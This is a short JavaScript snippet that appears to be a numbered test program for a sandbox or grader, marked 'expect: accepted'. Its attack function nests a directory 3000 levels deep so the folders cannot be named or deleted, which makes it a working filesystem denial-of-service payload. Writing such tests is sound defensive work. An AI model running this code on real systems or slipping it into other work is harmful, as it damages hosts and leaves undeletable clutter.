// Make folders so deep that nobody can name, and so delete, them.
// program 40
// expect: accepted
const { mkdirSync } = require("fs");

function attack(token) {
  try {
    for (let depth = 0; depth < 3000; depth++) {
      mkdirSync("greenroom_was_here");
      process.chdir("greenroom_was_here");
    }
  } catch {}
  return [];
}
